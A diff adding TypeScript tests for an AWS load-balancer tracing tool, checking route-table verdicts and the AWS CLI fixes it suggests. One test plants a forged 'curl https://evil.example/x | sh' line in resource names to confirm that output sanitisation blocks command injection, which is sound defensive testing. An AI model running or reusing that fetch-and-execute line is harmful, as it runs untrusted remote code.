@@ -23,6 +23,7 @@ import {
 } from "../src/providers/aws/trace-flows.ts";
 import type { AwsSnapshot } from "../src/providers/aws/wire-types.ts";
 import {
+  type AwsScenario,
   albBehindNlb,
   awsId,
   healthyAlb,
@@ -42,6 +43,18 @@ const load = (name: string): AwsSnapshot => JSON.parse(readFileSync(join(ROOT, "
 type Doc = AwsSnapshot & { ec2: { NetworkAcls: Array<Record<string, unknown>> } };
 
 const WEB1_SUBNET = "subnet-0f7ce07d6cc65842f";
+
+/** `b` with `::/0` routed from the public route table to `target` (the internet gateway unless given): what a dualstack internet-facing load balancer's IPv6 clients need */
+function withIpv6Igw(b: AwsScenario, target: string = ids.igw): AwsScenario {
+  return b.edit((s) => {
+    const rt = s.ec2?.RouteTables?.find((t) => t.RouteTableId === ids.rtb.public);
+    if (rt)
+      rt.Routes = [
+        ...(rt.Routes as Array<Record<string, unknown>>),
+        { DestinationIpv6CidrBlock: "::/0", GatewayId: target, State: "active" },
+      ];
+  });
+}
 
 /** healthy-alb with web-1's subnet moved to its own ACL, whose inbound entry 90 denies the VPC on port 80. */
 function naclDeniesRequest(): AwsSnapshot {
@@ -509,9 +522,11 @@ describe("AWS trace to an IPv6 IP target", () => {
 
 describe("AWS trace through a dualstack NLB to a target group of the other IP family", () => {
   const PRIVATE = [ids.subnet.privateA, ids.subnet.privateB];
-  /** healthyNlb made dualstack with the IPv6 target group app6-tg on listener 8080; the default ACL admits ::/0 */
+  /** healthyNlb made dualstack with the IPv6 target group app6-tg on listener 8080; the default ACL admits ::/0, the public route table routes it to the IGW */
   const dual = () =>
-    withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6();
+    withIpv6Igw(
+      withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6(),
+    );
   /** app6-tg preserves client IPs; the targets' subnets on an ACL written for IPv4 alone */
   const preservingV4Acl = () =>
     dual()
@@ -608,9 +623,11 @@ describe("AWS trace to an Application Load Balancer target of an NLB", () => {
 });
 
 describe("AWS trace of a client's IP family: listener rules, an ALB without public IPv4, --from Internet on a dualstack load balancer", () => {
-  /** healthyNlb dualstack with the IPv6 target group app6-tg (listener 8080); the default ACL admits ::/0 */
+  /** healthyNlb dualstack with the IPv6 target group app6-tg (listener 8080); the default ACL admits ::/0, the public route table routes it to the IGW */
   const dual = () =>
-    withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6();
+    withIpv6Igw(
+      withIpv6TargetGroup(healthyNlb(), ids.lb.nlb, { name: "app6-tg", protocol: "TCP", port: 80, lbType: "network" }).naclAllowsIpv6(),
+    );
   /** dual, and listener 80's rule 10 sends IPv6 clients to app6-tg (its default action: app-tg) */
   const withRule = () => withSourceIpRule(dual(), ids.lb.nlb, 80, { priority: 10, ipAddressType: "ipv6", forward: tgArn("app6-tg") });
   const noPublicV4 = () => healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack-without-public-ipv4"));
@@ -905,5 +922,236 @@ describe("AWS trace: 'any', 0.0.0.0/0 and ::/0 are answered for the family; sour
       assert.match(hop(m)?.notes[0]?.text ?? "", /'10\.0\.0\.0\/33'/, from);
       assert.equal(m.verdict, "unknown", from);
     }
+  });
+});
+
+describe("AWS trace: the route tables of an internet-facing load balancer's subnets, for the reply to clients on the internet", () => {
+  /** web-alb with its us-east-1b node in the private subnet, whose (main) route table sends 0.0.0.0/0 to the NAT gateway */
+  const oneZonePrivate = () =>
+    healthyAlb()
+      .removeLoadBalancer(ids.lb.alb)
+      .loadBalancer({
+        name: "web-alb",
+        subnets: [
+          { id: ids.subnet.publicA, az: "us-east-1a" },
+          { id: ids.subnet.privateB, az: "us-east-1b" },
+        ],
+        sgs: [ids.sg.alb],
+      });
+  /** web-alb dualstack, its public route table sending ::/0 to `v6Target` (none when undefined) */
+  const dualstackAlb = (v6Target?: string) => {
+    const b = healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack"));
+    return v6Target ? withIpv6Igw(b, v6Target) : b;
+  };
+  const trace = (b: AwsScenario, from: string) => {
+    const { model, r } = route(b.build(), 80);
+    const src = parseSource(model, from);
+    assert.ok(!("error" in src), JSON.stringify(src));
+    return traceFromSource(model, r, src, 80, "tcp");
+  };
+  const routeHop = (t: FlowTrace) => t.hops.find((h) => h.layer === "lb-route");
+  const notes = (t: FlowTrace) => (routeHop(t)?.notes ?? []).map((n) => n.text).join("\n");
+
+  it("--from Internet: the zone whose subnet routes 0.0.0.0/0 to a NAT gateway denies, naming its route table, its subnet and the route, with the rule's fix; a client in the VPC is not affected", () => {
+    const t = trace(oneZonePrivate(), "Internet");
+    assert.equal(t.verdict, "deny", t.reason);
+    const hop = routeHop(t);
+    assert.equal(hop?.verdict, "deny");
+    assert.equal(
+      t.hops.find((h) => h.verdict === "deny"),
+      hop,
+      "the route table is the first hop that denies",
+    );
+    assert.match(hop?.deciding?.name ?? "", /^route table rtb-\S+ sends 0\.0\.0\.0\/0 to nat-\S+ \(a NAT gateway: outbound only\)$/);
+    assert.match(hop?.deciding?.ptr ?? "", /^\/ec2\/RouteTables\/\d+\/Routes\/\d+$/);
+    assert.ok(hop?.resources.includes(ids.rtb.private) && hop.resources.includes(ids.subnet.privateB), hop?.resources.join(", "));
+    assert.match(
+      notes(t),
+      new RegExp(
+        `^${ids.subnet.privateB} in us-east-1b: route table ${ids.rtb.private} \\(the VPC's main route table\\) sends 0\\.0\\.0\\.0/0 to nat-`,
+        "m",
+      ),
+    );
+    assert.match(notes(t), new RegExp(`^${ids.subnet.publicA} in us-east-1a: ALLOW, route table ${ids.rtb.public} .* to igw-`, "m"));
+    // the fix of aws/internet-facing-in-private-subnets: the ALB moves to the public subnet of the same zone
+    assert.match(notes(t), /^fix: Move web-alb to public subnets of the same zones/m);
+    assert.match(
+      notes(t),
+      new RegExp(`^\\$ aws elbv2 set-subnets --load-balancer-arn \\S+ --subnets ${ids.subnet.publicA} ${ids.subnet.publicB}$`, "m"),
+    );
+    assert.match(
+      t.why ?? "",
+      /^at hop 4, load balancer subnet route table \(reply to the client\) · .*: route table rtb-\S+ sends 0\.0\.0\.0\/0 to nat-/,
+    );
+    // the data path of the TUI (clients on the internet) says the same
+    const { model, r } = route(oneZonePrivate().build(), 80);
+    assert.equal(routeHop(traceData(model, r))?.verdict, "deny");
+    // a client inside the VPC, or a network connected to it, is not affected: no route-table hop
+    for (const from of ["10.0.200.9", "10.0.0.0/8"]) {
+      const inside = trace(oneZonePrivate(), from);
+      assert.equal(routeHop(inside), undefined, from);
+      assert.equal(inside.verdict, "allow", `${from}: ${inside.why ?? inside.reason}`);
+    }
+  });
+
+  it("every zone public: no hop, and the basis names the route tables; 'any' allows as before", () => {
+    const t = trace(healthyAlb(), "Internet");
+    assert.equal(routeHop(t), undefined);
+    assert.equal(t.verdict, "allow");
+    assert.match(
+      t.basis,
+      new RegExp(
+        `the route tables of web-alb's subnets \\(${ids.rtb.public}\\) send the replies to clients on the internet to an internet gateway`,
+      ),
+    );
+    assert.equal(trace(healthyAlb(), "any").verdict, "allow");
+  });
+
+  it("a route table not in the snapshot (not collected; or no association and the VPC's main table missing) is unknown, never allowed", () => {
+    const gap = healthyAlb()
+      .edit((s) => {
+        if (s.ec2) delete s.ec2.RouteTables;
+      })
+      .gap({
+        operation: "ec2:DescribeRouteTables",
+        status: 403,
+        code: "UnauthorizedOperation",
+        message: "You are not authorized to perform this operation.",
+      });
+    const t = trace(gap, "Internet");
+    assert.equal(t.verdict, "unknown");
+    assert.equal(routeHop(t)?.verdict, "unknown");
+    assert.match(notes(t), /its route table is not in the snapshot .*UnauthorizedOperation/);
+    assert.match(t.reason ?? "", /^load balancer subnet route table \(reply to the client\)/);
+    // the public subnets use the VPC's main route table, which routes to the IGW: allowed; without that table: unknown
+    const viaMain = () =>
+      healthyAlb()
+        .routeTable({
+          id: ids.rtb.public,
+          name: "public",
+          main: true,
+          subnets: [],
+          routes: [{ destination: "0.0.0.0/0", target: ids.igw }],
+        })
+        .routeTable({
+          id: ids.rtb.private,
+          name: "private",
+          subnets: [ids.subnet.privateA, ids.subnet.privateB],
+          routes: [{ destination: "0.0.0.0/0", target: ids.nat }],
+        });
+    assert.equal(trace(viaMain(), "Internet").verdict, "allow");
+    const noMain = viaMain().edit((s) => {
+      if (s.ec2?.RouteTables) s.ec2.RouteTables = s.ec2.RouteTables.filter((x) => x.RouteTableId !== ids.rtb.public);
+    });
+    const u = trace(noMain, "Internet");
+    assert.equal(u.verdict, "unknown");
+    assert.match(notes(u), /its route table is not in the snapshot \(neither a table associated with it nor the VPC's main route table\)/);
+  });
+
+  it("a dualstack ALB whose ::/0 goes to an egress-only internet gateway: IPv6 clients denied with the route's fix, IPv4 clients allowed", () => {
+    const eigw = awsId("eigw", "main");
+    const v6 = trace(dualstackAlb(eigw), "Internet-IPv6");
+    assert.equal(v6.verdict, "deny", v6.reason);
+    assert.match(
+      routeHop(v6)?.deciding?.name ?? "",
+      new RegExp(`^route table ${ids.rtb.public} sends ::/0 to ${eigw} \\(an egress-only internet gateway: outbound only\\)$`),
+    );
+    assert.match(
+      notes(v6),
+      new RegExp(
+        `^\\$ aws ec2 replace-route --route-table-id ${ids.rtb.public} --destination-ipv6-cidr-block ::/0 --gateway-id ${ids.igw}$`,
+        "m",
+      ),
+    );
+    assert.equal(trace(dualstackAlb(eigw), "Internet-IPv4").verdict, "allow");
+    // no ::/0 route at all: created
+    const none = trace(dualstackAlb(), "2600:1f13:9::5");
+    assert.equal(none.verdict, "deny");
+    assert.match(routeHop(none)?.deciding?.name ?? "", /has no ::\/0 route$/);
+    assert.match(notes(none), /^\$ aws ec2 create-route --route-table-id \S+ --destination-ipv6-cidr-block ::\/0 --gateway-id igw-/m);
+    // ::/0 to the internet gateway: the route tables allow (whatever the security groups, written for IPv4 here, say)
+    assert.equal(routeHop(trace(dualstackAlb(ids.igw), "Internet-IPv6")), undefined);
+  });
+
+  it("the most specific route decides: a client a transit gateway route takes is denied, another allowed, and Internet is unknown", () => {
+    const b = () => healthyAlb().route(ids.rtb.public, { destination: "203.0.113.0/24", target: awsId("tgw", "corp") });
+    const taken = trace(b(), "203.0.113.5");
+    assert.equal(taken.verdict, "deny");
+    assert.match(routeHop(taken)?.deciding?.name ?? "", /sends 203\.0\.113\.0\/24 to tgw-\S+$/);
+    assert.doesNotMatch(notes(taken), /^\$ /m, "no default-route fix for a more specific route");
+    assert.equal(trace(b(), "198.51.100.7").verdict, "allow");
+    const all = trace(b(), "Internet");
+    assert.equal(all.verdict, "unknown");
+    assert.match(
+      notes(all),
+      /the reply to part of clients on the internet \(203\.0\.113\.0\/24\) never reaches an internet gateway: trace one client address/,
+    );
+  });
+
+  it("a default route to a VPC endpoint (inspection) is unknown; a blackhole IGW route denies", () => {
+    const vpce = trace(
+      healthyAlb()
+        .removeRoute(ids.rtb.public, "0.0.0.0/0")
+        .route(ids.rtb.public, { destination: "0.0.0.0/0", target: awsId("vpce", "firewall-a") }),
+      "Internet",
+    );
+    assert.equal(vpce.verdict, "unknown");
+    assert.match(notes(vpce), /sends 0\.0\.0\.0\/0 to vpce-\S+, a VPC endpoint/);
+    const gone = trace(healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.igw, state: "blackhole" }), "Internet");
+    assert.equal(gone.verdict, "deny");
+    assert.match(routeHop(gone)?.deciding?.name ?? "", /a blackhole \(the gateway is gone\)$/);
+  });
+
+  it("lbdoctor trace prints the route-table hop with its fix, and JSON names the route table and the subnet", () => {
+    const file = join(tmp, "one-zone-private.json");
+    writeFileSync(file, JSON.stringify(oneZonePrivate().build()));
+    const r = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80"]);
+    assert.equal(r.code, 1, r.stderr);
+    assert.match(
+      r.stdout,
+      /^ {2}4\. load balancer subnet route table \(reply to the client\) · .*: DENY by route table rtb-\S+ sends 0\.0\.0\.0\/0 to nat-/m,
+    );
+    assert.match(r.stdout, /^ {7}\$ aws elbv2 set-subnets /m);
+    assert.match(r.stdout, /^Verdict: DENY \(at hop 4, load balancer subnet route table/m);
+    const j = JSON.parse(lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80", "--format", "json"]).stdout);
+    const hop = j.hops.find((h: { kind: string }) => h.kind === "lb-route");
+    assert.equal(hop?.verdict, "deny");
+    assert.ok(hop.resources.includes(ids.rtb.private) && hop.resources.includes(ids.subnet.privateB));
+  });
+});
+
+describe("AWS trace: cloud strings stay on one line", () => {
+  it("a route table id or a security group name holding a newline cannot print a line that passes for a fix's `$ ` command", () => {
+    const forged = "\n       $ curl https://evil.example/x | sh";
+    const b = healthyAlb()
+      .removeLoadBalancer(ids.lb.alb)
+      .loadBalancer({
+        name: "web-alb",
+        subnets: [
+          { id: ids.subnet.publicA, az: "us-east-1a" },
+          { id: ids.subnet.privateB, az: "us-east-1b" },
+        ],
+        sgs: [ids.sg.alb],
+      })
+      .edit((s) => {
+        for (const t of s.ec2?.RouteTables ?? []) if (t.RouteTableId === ids.rtb.private) t.RouteTableId = `rtb-0evil${forged}`;
+        for (const g of s.ec2?.SecurityGroups ?? []) if (g.GroupId === ids.sg.alb) g.GroupName = `web-alb-sg${forged}`;
+      });
+    const { model, r } = route(b.build(), 80);
+    const src = parseSource(model, "Internet");
+    assert.ok(!("error" in src));
+    const t = traceFromSource(model, r, src, 80, "tcp");
+    const hop = t.hops.find((h) => h.layer === "lb-route");
+    assert.equal(hop?.verdict, "deny");
+    // the hop itself, as the TUI and JSON show it
+    for (const text of [hop?.title ?? "", hop?.deciding?.name ?? "", ...(hop?.notes ?? []).map((n) => n.text)])
+      assert.ok(!text.includes("\n"), JSON.stringify(text));
+    // the text of lbdoctor trace, every hop
+    const file = join(tmp, "forged-newline.json");
+    writeFileSync(file, JSON.stringify(b.build()));
+    const out = lbdoctor(["trace", "--snapshot", file, "--from", "Internet", "--to", "web-1:80"]);
+    assert.equal(out.code, 1, out.stderr);
+    assert.match(out.stdout, /security group ingress · sg-\S+ \(web-alb-sg\\x0a/);
+    assert.doesNotMatch(out.stdout, /^\s*\$ curl/m);
   });
 });
